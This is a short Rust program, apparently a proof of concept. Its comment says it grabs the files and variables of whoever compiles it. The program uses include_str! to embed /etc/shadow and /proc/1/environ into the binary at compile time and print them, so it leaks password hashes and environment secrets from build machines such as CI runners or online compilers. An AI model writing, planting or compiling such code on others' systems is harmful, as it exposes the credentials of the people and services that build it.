// Takes in files and variables of whoever compiles it.
fn main() {
    println!("{}", include_str!("/etc/shadow"));
    println!("{}", include_str!("/proc/1/environ"));
}
